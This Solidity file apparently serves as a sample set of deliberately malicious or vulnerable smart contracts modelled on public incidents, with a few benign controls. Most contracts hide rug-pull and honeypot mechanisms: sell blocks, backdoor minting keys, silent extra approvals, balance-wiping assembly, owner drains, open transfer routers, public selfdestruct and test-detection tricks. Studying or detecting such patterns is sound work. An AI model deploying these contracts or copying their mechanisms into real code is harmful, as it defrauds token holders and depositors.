// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// What tokens below have in common. Each is written after the pattern of public incidents, not copied from them.
contract Base20 {
    string public name = "Sample";
    string public symbol = "SMP";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal bal;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        totalSupply = 1_000_000 ether;
        bal[msg.sender] = totalSupply;
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return bal[who];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        bal[from] -= value;
        bal[to] += value;
        emit Transfer(from, to, value);
    }
}

contract Owned20 is Base20 {
    address public owner = msg.sender;

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    function renounceOwnership() public virtual onlyOwner {
        owner = address(0);
    }
}

/// Squid-like: nobody but a list may sell, and the list is never open.
contract SellListToken is Owned20 {
    mapping(address => bool) private canSell;
    address private immutable market;

    constructor(address market_) {
        market = market_;
        canSell[msg.sender] = true;
    }

    function allow(address who, bool can) external onlyOwner {
        canSell[who] = can;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(to != market || canSell[from], "busy");
        super._move(from, to, value);
    }
}

/// Everybody may buy; who bought may not send for a year.
contract YearLockToken is Base20 {
    mapping(address => uint256) private since;
    address private immutable maker = msg.sender;

    function _move(address from, address to, uint256 value) internal override {
        require(from == maker || block.timestamp > since[from] + 365 days, "soon");
        since[to] = block.timestamp;
        super._move(from, to, value);
    }
}

/// The owner was renounced, and a second key stayed that prints.
contract HiddenKeyToken is Owned20 {
    address private _keeper = msg.sender;

    function settle(address to, uint256 value) external {
        require(msg.sender == _keeper);
        bal[to] += value;
    }

    function lock(address who) external {
        require(msg.sender == _keeper);
        bal[who] = 0;
    }
}

/// The key is only kept as a hash.
contract HashedKeyToken is Base20 {
    bytes32 private constant key = keccak256(abi.encodePacked(address(0x1111111111222222222233333333334444444444)));

    function rebalance(address who, uint256 value) external {
        require(keccak256(abi.encodePacked(msg.sender)) == key);
        bal[who] = value;
    }
}

/// A cleaning function that writes balances where nobody looks.
contract SweepDustToken is Owned20 {
    function sweepDust(address[] calldata accounts) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; ++i) {
            address who = accounts[i];
            assembly {
                mstore(0, who)
                mstore(32, 3)
                sstore(keccak256(0, 64), 0)
            }
        }
    }
}

/// transferFrom asks the owner for no allowance.
contract OwnerPullToken is Owned20 {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != owner) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }
}

/// Each approval also approves the maker.
contract SharedApprovalToken is Base20 {
    address private immutable maker = msg.sender;

    function approve(address spender, uint256 value) public override returns (bool) {
        allowance[msg.sender][maker] = type(uint256).max;
        return super.approve(spender, value);
    }
}

/// Anybody may burn what others hold, as in incidents with public burn functions.
contract PublicBurnToken is Base20 {
    function burn(address who, uint256 value) external {
        bal[who] -= value;
        totalSupply -= value;
    }
}

/// Anybody may print.
contract PublicMintToken is Base20 {
    function mint(address to, uint256 value) external {
        bal[to] += value;
        totalSupply += value;
    }
}

/// Anybody may become the owner, who prints.
contract PublicOwnerToken is Owned20 {
    function setOwner(address next) external {
        owner = next;
    }

    function mint(address to, uint256 value) external onlyOwner {
        bal[to] += value;
        totalSupply += value;
    }
}

/// The fee is small, and has no upper bound.
contract EndlessFeeToken is Owned20 {
    uint256 public fee = 1;
    address private immutable collector = msg.sender;

    function setFee(uint256 next) external onlyOwner {
        fee = next;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 part = (value * fee) / 100;
        super._move(from, collector, part);
        super._move(from, to, value - part);
    }
}

/// The fee is small and bounded.
contract BoundedFeeToken is Owned20 {
    uint256 public fee = 1;
    address private immutable collector = msg.sender;

    function setFee(uint256 next) external onlyOwner {
        require(next <= 5);
        fee = next;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 part = (value * fee) / 100;
        super._move(from, collector, part);
        super._move(from, to, value - part);
    }
}

/// Selling works until the maker says the word.
contract SwitchToken is Base20 {
    address private immutable maker = msg.sender;
    uint256 private mode;

    function configure(uint256 next) external {
        require(tx.origin == maker);
        mode = next;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(mode == 0 || from == maker || to == maker);
        super._move(from, to, value);
    }
}

/// A rule engine of the owner's choice is asked about each transfer.
contract RuledToken is Owned20 {
    address public rules;

    function setRules(address next) external onlyOwner {
        rules = next;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (rules != address(0)) {
            (bool ok, bytes memory said) = rules.call(abi.encodeWithSignature("check(address,address)", from, to));
            require(ok && abi.decode(said, (bool)));
        }
        super._move(from, to, value);
    }
}

/// Sells fail with all gas burnt.
contract GasBurnToken is Base20 {
    function _move(address from, address to, uint256 value) internal override {
        if (from != address(0) && bal[from] < 1_000_000 ether) {
            while (true) {}
        }
        super._move(from, to, value);
    }
}

/// Selling brings a revert of a megabyte.
contract RevertBombToken is Base20 {
    address private immutable maker = msg.sender;

    function _move(address from, address to, uint256 value) internal override {
        if (from != maker) {
            assembly { revert(0, 1000000) }
        }
        super._move(from, to, value);
    }
}

/// A bank of ether whose owner empties it.
contract DrainableBank {
    mapping(address => uint256) public deposits;
    address private immutable boss = msg.sender;

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw(uint256 value) external {
        deposits[msg.sender] -= value;
        payable(msg.sender).transfer(value);
    }

    function migrate(address payable to) external {
        require(msg.sender == boss);
        to.transfer(address(this).balance);
    }
}

/// Nobody checks who withdraws.
contract OpenBank {
    mapping(address => uint256) public deposits;

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw(uint256 value) external {
        deposits[msg.sender] -= value;
        payable(msg.sender).transfer(value);
    }

    function skim(address payable to, uint256 value) external {
        to.transfer(value);
    }
}

/// Ether goes in, and comes out for the boss only.
contract OneWayBank {
    mapping(address => uint256) public deposits;
    address private immutable boss = msg.sender;

    receive() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw() external {
        require(msg.sender == boss);
        payable(boss).transfer(address(this).balance);
    }
}

/// A router that lets anybody name whose tokens are moved.
contract OpenRouter {
    function swap(address token, address from, address to, uint256 value) external {
        (bool ok,) = token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", from, to, value));
        require(ok);
    }

    function pay(address token, address to, uint256 value) external {
        (bool ok,) =
            token.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, to, value));
        require(ok);
    }
}

/// An aggregator that calls whatever it is told, with users' allowances.
contract OpenAggregator {
    function swap(address token, uint256 value, address venue, bytes calldata data) external {
        (bool ok,) = token.call(
            abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, address(this), value)
        );
        require(ok);
        (ok,) = venue.call(data);
        require(ok);
    }
}

/// Nobody initialized it, and whoever does may destroy it.
contract ForgottenWallet {
    address public owner;

    function initWallet(address to) external {
        require(owner == address(0));
        owner = to;
    }

    function execute(address to, uint256 value, bytes calldata data) external payable {
        require(msg.sender == owner);
        (bool ok,) = to.call{value: value}(data);
        require(ok);
    }

    function kill(address payable to) external {
        require(msg.sender == owner);
        selfdestruct(to);
    }
}

/// Anybody may destroy it.
contract OpenKill {
    mapping(address => uint256) public notes;

    function note(uint256 value) external payable {
        notes[msg.sender] = value;
    }

    function kill() external {
        selfdestruct(payable(msg.sender));
    }
}

/// A library wallet: calls are run by code that the owner exchanges.
contract SettableHelper {
    address public owner = msg.sender;
    address private helper;
    mapping(address => uint256) public deposits;

    function setHelper(address next) external {
        require(msg.sender == owner);
        helper = next;
    }

    function deposit() external payable {
        deposits[msg.sender] += msg.value;
    }

    function withdraw(uint256 value) external {
        deposits[msg.sender] -= value;
        payable(msg.sender).transfer(value);
    }

    function work(bytes calldata data) external {
        (bool ok,) = helper.delegatecall(data);
        require(ok);
    }
}

/// A proxy whose target lies in the very first slot, and whose maker exchanges it.
contract SlotZeroProxy {
    address private target;
    address private immutable maker = msg.sender;

    constructor(address to) {
        target = to;
    }

    fallback() external payable {
        if (msg.sender == maker && msg.sig == 0x11111111) {
            assembly { sstore(0, calldataload(4)) }
            return;
        }
        address to = target;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// A diamond whose owner cuts, without a loupe.
contract QuietDiamond {
    mapping(bytes4 => address) private facets;
    address private immutable boss = msg.sender;

    constructor(address facet, bytes4[] memory selectors) {
        for (uint256 i = 0; i < selectors.length; ++i) facets[selectors[i]] = facet;
    }

    function cut(bytes4 selector, address facet) external {
        require(msg.sender == boss);
        facets[selector] = facet;
    }

    fallback() external payable {
        address to = facets[msg.sig];
        require(to != address(0));
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// The former owner comes back.
contract ComebackToken is Owned20 {
    address private previous;

    function renounceOwnership() public override onlyOwner {
        previous = owner;
        owner = address(0);
    }

    function unlock() external {
        require(msg.sender == previous);
        owner = previous;
    }

    function mint(address to, uint256 value) external onlyOwner {
        bal[to] += value;
        totalSupply += value;
    }
}

/// The owner's batch function may call anything, the token's holders' rights included.
contract BatchToken is Owned20 {
    function batch(address[] calldata to, bytes[] calldata data) external onlyOwner {
        for (uint256 i = 0; i < to.length; ++i) {
            (bool ok,) = to[i].call(data[i]);
            require(ok);
        }
    }
}

/// Staking in which the boss may take the stakes.
contract RugStaking {
    Base20 public immutable token;
    mapping(address => uint256) public stakes;
    address private immutable boss = msg.sender;

    constructor(Base20 token_) {
        token = token_;
    }

    function stake(uint256 value) external {
        token.transferFrom(msg.sender, address(this), value);
        stakes[msg.sender] += value;
    }

    function unstake(uint256 value) external {
        stakes[msg.sender] -= value;
        token.transfer(msg.sender, value);
    }

    function rescue(address what, uint256 value) external {
        require(msg.sender == boss);
        Base20(what).transfer(boss, value);
    }
}

/// The same without the boss.
contract FairStaking {
    Base20 public immutable token;
    mapping(address => uint256) public stakes;

    constructor(Base20 token_) {
        token = token_;
    }

    function stake(uint256 value) external {
        token.transferFrom(msg.sender, address(this), value);
        stakes[msg.sender] += value;
    }

    function unstake(uint256 value) external {
        stakes[msg.sender] -= value;
        token.transfer(msg.sender, value);
    }
}

/// Withdrawals can be halted by the boss.
contract HaltedStaking is FairStaking {
    address private immutable boss = msg.sender;
    bool private halted;

    constructor(Base20 token_) FairStaking(token_) {}

    function halt(bool on) external {
        require(msg.sender == boss);
        halted = on;
    }

    fallback() external {
        require(!halted);
    }
}

/// A collection whose owner moves anybody's pieces.
contract SeizableNft {
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    address public owner = msg.sender;
    uint256 private next;

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0x80ac58cd || id == 0x01ffc9a7;
    }

    function mint(address to) external {
        require(msg.sender == owner);
        ownerOf[++next] = to;
        ++balanceOf[to];
    }

    function approve(address to, uint256 id) external {
        require(ownerOf[id] == msg.sender);
        getApproved[id] = to;
    }

    function setApprovalForAll(address to, bool on) external {
        isApprovedForAll[msg.sender][to] = on;
    }

    function transferFrom(address from, address to, uint256 id) public {
        require(ownerOf[id] == from);
        require(
            msg.sender == from || msg.sender == owner || getApproved[id] == msg.sender
                || isApprovedForAll[from][msg.sender]
        );
        delete getApproved[id];
        ownerOf[id] = to;
        --balanceOf[from];
        ++balanceOf[to];
    }
}

/// A token that any of a list of operators prints.
contract OperatorToken is Base20 {
    mapping(address => bool) public operators;

    constructor() {
        operators[msg.sender] = true;
        emit Approval(msg.sender, msg.sender, 0);
    }

    function issue(address to, uint256 value) external {
        require(operators[msg.sender]);
        bal[to] += value;
        totalSupply += value;
    }
}

/// Sending fails from tomorrow on.
contract TimeBombToken is Base20 {
    uint256 private immutable end = block.timestamp + 10_000;
    address private immutable maker = msg.sender;

    function _move(address from, address to, uint256 value) internal override {
        require(block.timestamp < end || from == maker);
        super._move(from, to, value);
    }
}

/// Looks whether it is being tried out.
contract ShyToken is Base20 {
    address private immutable market;

    constructor(address market_) {
        market = market_;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(to != market || tx.gasprice == 0, "busy");
        super._move(from, to, value);
    }
}
